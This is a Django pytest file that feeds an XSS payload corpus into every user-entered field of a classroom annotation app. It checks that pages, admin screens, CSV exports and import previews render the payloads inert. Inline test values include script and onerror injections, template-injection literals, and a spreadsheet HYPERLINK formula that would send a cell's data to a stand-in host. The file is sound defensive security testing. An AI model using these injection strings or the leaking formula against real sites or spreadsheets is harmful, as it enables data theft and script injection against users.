"""Every text field a user fills, fed the XSS corpus, renders inert on the pages that show it."""

import csv
import io
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.conf import settings
from django.contrib import admin
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.urls import reverse
from django.utils.html import escape

from annotations.models import Annotation, EvidenceLink, Notification, Reply, Visibility
from articles.extraction import draft_from_paste
from articles.importing import import_draft
from articles.models import Article
from classrooms.models import Assignment, Classroom, Flag, Membership
from tests.factories import make_annotation, make_article, make_user

pytestmark = pytest.mark.django_db
PAYLOADS = [
    line
    for line in (Path(__file__).resolve().parents[1] / "xss_payloads.txt")
    .read_text(encoding="utf-8")
    .split("\n")
    if line and not line.startswith("#")
]
# What Markdown may add to a page, and nothing else.
MARKDOWN_TAGS = {
    "p",
    "br",
    "em",
    "strong",
    "del",
    "s",
    "ul",
    "ol",
    "li",
    "blockquote",
    "code",
    "pre",
    "a",
}


class Tags(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.shapes: Counter = Counter()
        self.hrefs: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.shapes[(tag, tuple(sorted(name for name, _ in attrs)))] += 1
        self.hrefs += [value or "" for name, value in attrs if name == "href"]


def shapes(html: str) -> Tags:
    parser = Tags()
    parser.feed(html)
    return parser


CLASS_PAGE_STRIDE = 14
HX_OR_SCRIPT = ("hx-", "data-hx-", "on", "style", "srcdoc", "formaction")
TEMPLATE_LITERALS = [
    "{{ 7*7 }}",
    "{% debug %}",
    "{{ csrf_token }}",
    "{% include &quot;base.html&quot; %}",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def make_world(text_for, prefix: str, count: int = len(PAYLOADS)) -> SimpleNamespace:
    """A class, its assignment and an imported article where every user field holds text_for(n).

    The curator teaches every class and moderates; `count` students each have a hostile display
    name and write a class highlight, an evidence link, a reply and two flags. Each of `count`
    classes has a hostile name and hostile instructions. The article's title and text come
    through the import pipeline, as a curator's paste would.
    """
    curator = make_user(
        f"{prefix}-curator", first_name=text_for(0)[:150], is_staff=True, is_superuser=True
    )
    paste = "\n\n".join(
        [
            f"Article {prefix}: " + text_for(1)[:200],
            # The cleaner may take a short hostile line for a heading: have one either way.
            "Background",
            *(
                f"Paragraph {n} of the article says: {text_for(n)} That is all."
                for n in range(count)
            ),
        ]
    )
    article, _ = import_draft(draft_from_paste(paste), None, status=Article.Status.PUBLISHED)
    classes = Classroom.objects.bulk_create(
        Classroom(name=text_for(n)[:100] or "x") for n in range(count)
    )
    main = classes[0]
    Membership.objects.bulk_create(
        Membership(classroom=c, user=curator, role=Membership.Role.TEACHER, number=1)
        for c in classes
    )
    assignments = Assignment.objects.bulk_create(
        Assignment(classroom=c, article=article, instructions=text_for(n))
        for n, c in enumerate(classes)
    )
    students = [
        make_user(f"{prefix}-student{n}", first_name=text_for(n)[:150]) for n in range(count)
    ]
    Membership.objects.bulk_create(
        Membership(classroom=main, user=s, role=Membership.Role.STUDENT, number=n + 2)
        for n, s in enumerate(students)
    )
    # The first student is in every class, so their assignment list shows every instruction.
    Membership.objects.bulk_create(
        Membership(classroom=c, user=students[0], role=Membership.Role.STUDENT, number=2)
        for c in classes[1:]
    )
    in_class = {"visibility": Visibility.CLASS, "classroom": main, "assignment": assignments[0]}
    claim = make_annotation(article, curator, block=1, start=0, end=4, note=text_for(2))
    Annotation.objects.filter(pk=claim.pk).update(**in_class)
    public = make_annotation(article, curator, block=1, start=5, end=9, note=text_for(3))
    blocks = {b.position: b for b in article.blocks.all()}
    evidence = Annotation.objects.bulk_create(
        Annotation(
            article=article,
            author=s,
            start_block=blocks[2],
            start_offset=0,
            end_block=blocks[2],
            end_offset=4,
            exact=blocks[2].text[:4],
            label="evidence",
            note=text_for(n),
            **in_class,
        )
        for n, s in enumerate(students)
    )
    links = EvidenceLink.objects.bulk_create(
        EvidenceLink(
            evidence=e, claim=claim, relation="refutes", justification=text_for(n)[:200], author=s
        )
        for n, (e, s) in enumerate(zip(evidence, students, strict=True))
    )
    replies = Reply.objects.bulk_create(
        Reply(annotation=claim, author=s, body=text_for(n), stance="disagree")
        for n, s in enumerate(students)
    )
    Flag.objects.bulk_create(
        [
            Flag(reporter=s, annotation=public, reason=text_for(n)[:300])
            for n, s in enumerate(students)
        ]
        + [
            Flag(reporter=s, annotation=claim, reply=r, reason=text_for(n)[:300])
            for n, (s, r) in enumerate(zip(students, replies, strict=True))
        ]
    )
    Notification.objects.bulk_create(
        Notification(recipient=curator, actor=s, kind=kind, annotation=claim, **target)
        for s, r, link in zip(students, replies, links, strict=True)
        for kind, target in [
            ("reply", {"reply": r}),
            ("link", {"link": link}),
            ("flag", {"reply": r}),
        ]
    )
    # The student hears of the curator's answer (reply() tells them itself).
    answer = claim.reply(curator, text_for(4), "agree", parent=replies[0])
    article.touch()
    return SimpleNamespace(
        answer=answer,
        replies=replies,
        curator=curator,
        student=students[0],
        article=article,
        claim=claim,
        public=public,
        evidence=evidence,
        classes=classes,
        assignment=assignments[0],
        assignments=assignments,
    )


def hx(path: str) -> dict:
    return {"path": path, "headers": {"HX-Request": "true"}}


def pages(world) -> dict[str, dict]:
    """Every page, fragment and admin screen that shows a user's words, by who sees it."""
    article, assignment = world.article, world.assignment
    scoped = f"{article.get_absolute_url()}?assignment={assignment.pk}"
    curator = {
        "article in class": {"path": scoped},
        "thread": hx(f"/annotations/{world.claim.pk}/thread/?assignment={assignment.pk}"),
        "claim card": hx(f"/annotations/{world.claim.pk}/?assignment={assignment.pk}"),
        "evidence card": hx(f"/annotations/{world.evidence[0].pk}/?assignment={assignment.pk}"),
        "live update": hx(f"/articles/{article.slug}/updates/?v=0&assignment={assignment.pk}"),
        "debate map": {"path": f"/articles/{article.slug}/map/"},
        "notifications": {"path": "/notifications/"},
        "classes": {"path": "/classes/"},
        "assignments": {"path": "/assignments/"},
        "dashboard": {"path": f"/assignments/{assignment.pk}/dashboard/"},
        "moderation": {"path": "/moderation/"},
        # Every class's name is on the class list; its own page (same escaping, one page per
        # class) is checked for a spread of them, to keep the run short.
        **{
            f"class {n}": {"path": c.get_absolute_url()}
            for n, c in enumerate(world.classes)
            if n % CLASS_PAGE_STRIDE == 0
        },
        **{
            f"admin {model._meta.model_name}": {
                "path": reverse(
                    f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist"
                )
            }
            for model in admin.site._registry
        },
        "admin article": {"path": reverse("admin:articles_article_change", args=[article.pk])},
    }
    student = {
        "student: article in class": {"path": scoped},
        "student: thread": hx(f"/annotations/{world.claim.pk}/thread/?assignment={assignment.pk}"),
        "student: assignments": {"path": "/assignments/"},
        "student: class": {"path": world.classes[0].get_absolute_url()},
        "student: notifications": {"path": "/notifications/"},
    }
    return {"curator": curator, "student": student}


def render_all(client, world) -> dict[str, str]:
    html = {}
    for who, visits in pages(world).items():
        client.force_login(getattr(world, who))
        for name, request in visits.items():
            response = client.get(request["path"], headers=request.get("headers", {}))
            assert response.status_code == 200, (name, response.status_code)
            html[name] = response.content.decode()
    return html


def risky(shape) -> bool:
    """A tag whose attributes could run script, fetch, or hand htmx a request."""
    return any(name.startswith(HX_OR_SCRIPT) for name in shape[1])


def assert_inert(baseline: Tags, hostile: Tags, where: str) -> None:
    for tag, attrs in set(hostile.shapes) - set(baseline.shapes):
        assert tag in MARKDOWN_TAGS, (where, tag, attrs)
        assert set(attrs) <= ({"href", "title", "rel"} if tag == "a" else set()), (where, attrs)
    # Our own scripts, and not one more.
    assert {s: n for s, n in hostile.shapes.items() if s[0] == "script"} == {
        s: n for s, n in baseline.shapes.items() if s[0] == "script"
    }, where
    # Elements carrying hx-*, on* or style are ours: no more of them than harmless text gets.
    for shape, n in hostile.shapes.items():
        if risky(shape) or shape[0] in {"script", "iframe", "object", "embed", "base", "meta"}:
            assert n <= baseline.shapes[shape], (where, shape, n, baseline.shapes[shape])
    for href in hostile.hrefs:
        lowered = "".join(href.split()).lower()
        assert not lowered.startswith(("javascript:", "data:", "vbscript:")), (where, href)


def benign(n: int) -> str:
    return f"Benign words *{n}*"


def hostile(n: int) -> str:
    return PAYLOADS[n % len(PAYLOADS)]


@pytest.fixture
def rendered(client):
    """Every page rendered from harmless text (then rolled back), and from the corpus."""
    assert len(PAYLOADS) >= 60
    with transaction.atomic():
        baseline = render_all(client, make_world(benign, "benign"))
        transaction.set_rollback(True)
    world = make_world(hostile, "hostile")
    return baseline, render_all(client, world), world


def test_the_xss_corpus_renders_inert_in_every_user_field_on_every_page(rendered):
    baseline, hostile_pages, world = rendered
    assert baseline.keys() == hostile_pages.keys()
    for name, html in hostile_pages.items():
        assert_inert(shapes(baseline[name]), shapes(html), name)
    # The corpus really reached each field and page (not an error page or an empty list).
    assert world.article.blocks.filter(text__contains="<script>alert(1)</script>").exists()
    everything = "\n".join(hostile_pages.values())
    for field_value in [
        world.classes[5].name,
        world.assignments[5].instructions,
        Flag.objects.filter(reason__startswith="<img src=x onerror").first().reason,
        world.student.first_name,
    ]:
        assert escape(field_value) in everything, field_value
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in hostile_pages["moderation"]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in hostile_pages["dashboard"]
    # Template syntax is shown, never evaluated.
    for literal in TEMPLATE_LITERALS:
        assert literal in everything, literal
    assert settings.SECRET_KEY not in everything
    assert "DEFAULT_MESSAGE_LEVELS" not in everything  # what {% debug %} would print


def test_csv_exports_neutralise_formulas_in_every_cell(client):
    world = make_world(hostile, "csv")
    client.force_login(world.curator)
    for export in ["dashboard.csv", "annotations.csv"]:
        response = client.get(f"/assignments/{world.assignment.pk}/{export}")
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert len({len(row) for row in rows}) == 1, export  # no cell broke out of its column
        cells = [cell for row in rows[1:] for cell in row]
        for cell in cells:
            assert not cell.startswith(FORMULA_STARTS), (export, cell)
        # The formulas are there, shown as text.
        assert '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click for your grade")' in cells


def test_the_admin_import_preview_shows_hostile_text_as_text(client):
    curator = make_user("importer", is_staff=True, is_superuser=True)
    client.force_login(curator)
    import_url = reverse("admin:articles_article_import")

    def preview(text_for):
        # Headings and left-out lines either way, so both previews have every kind of row.
        paste = "\n\n".join(
            [
                "A pasted article " + text_for(1)[:100],
                "Share this article",
                "What stands in the way",
            ]
            + [
                f"Paragraph {n} of the paste says: {text_for(n)} That is all."
                for n in range(len(PAYLOADS))
            ]
            + ["Photo: A sleeper carriage at Brussels-Midi"]
        )
        page = "".join(
            f"<p>Paragraph {n} of the page says: {text_for(n)} and {escape(text_for(n))}.</p>"
            for n in range(len(PAYLOADS))
        )
        html = (
            "<html><head><title>A page</title></head><body><nav><a href='/'>Home</a></nav>"
            "<article><h1>A page</h1><p>Share this article</p><h2>What stands in the way</h2>"
            f"{page}<p>Photo: A sleeper carriage at Brussels-Midi</p></article></body></html>"
        )
        upload = SimpleUploadedFile("page.html", html.encode(), content_type="text/html")
        pasted = client.post(import_url, {"text": paste})
        uploaded = client.post(import_url, {"file": upload})
        assert pasted.status_code == uploaded.status_code == 200
        return pasted.content.decode(), uploaded.content.decode()

    for name, harmless, html in zip(
        ["paste", "upload"], preview(benign), preview(hostile), strict=True
    ):
        assert 'id="import-blocks"' in html, name
        assert_inert(shapes(harmless), shapes(html), f"import preview ({name})")
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html, name


def through_the_forms(client, text: str, n: str) -> dict[str, str]:
    """Type `text` into each form a person fills, as they would; the pages that answer."""
    pages = {}
    article = make_article(f"Assigned {n}", slug=f"assigned-{n}")
    client.logout()
    signed_up = client.post(
        "/accounts/signup/?next=/classes/",
        {
            "username": f"typist{n}",
            "display_name": text[:150],
            "password1": "a long enough password",
            "password2": "a long enough password",
        },
        follow=True,
    )
    pages["signed up"] = signed_up.content.decode()
    created = client.post("/classes/new/", {"name": text[:100] or "x"}, follow=True)
    pages["class created"] = created.content.decode()
    classroom = Classroom.objects.get(memberships__user__username=f"typist{n}")
    assigned = client.post(
        f"/classes/{classroom.pk}/assignments/new/",
        {
            "article": article.pk,
            "instructions": text,
            "reveal_after": 0,
            "min_annotations": 1,
            "min_replies": 0,
        },
        follow=True,
    )
    pages["assignment created"] = assigned.content.decode()
    note = make_annotation(article, User.objects.get(username=f"typist{n}"), block=2, end=4)
    client.force_login(make_user(f"joiner{n}", first_name=text[:150]))
    joined = client.post("/classes/join/", {"code": classroom.join_code}, follow=True)
    pages["joined"] = joined.content.decode()
    # Flag reasons are shown on the moderation queue, rendered in the test above.
    client.post(f"/annotations/{note.pk}/flag/", {"reason": text[:300]})
    return pages


def test_text_typed_into_each_form_is_stored_as_typed_and_shown_inert(client):
    """Display names, class names, instructions and flag reasons through the real forms, with
    the confirmation messages that repeat them (every 18th payload, to keep it short)."""
    for n, text in enumerate(PAYLOADS[::18]):
        baseline = through_the_forms(client, f"Harmless words {n}", f"b{n}")
        for name, html in through_the_forms(client, text, f"{n}").items():
            assert_inert(shapes(baseline[name]), shapes(html), f"{name}: {text[:60]}")
        assert Classroom.objects.filter(name=text[:100]).exists() or not text[:100].strip()
        assert Assignment.objects.filter(instructions=text).exists() or not text.strip()
        assert User.objects.get(username=f"typist{n}").first_name == text[:150].strip()
        assert Flag.objects.filter(reason=text[:300].strip()).exists() or not text.strip()
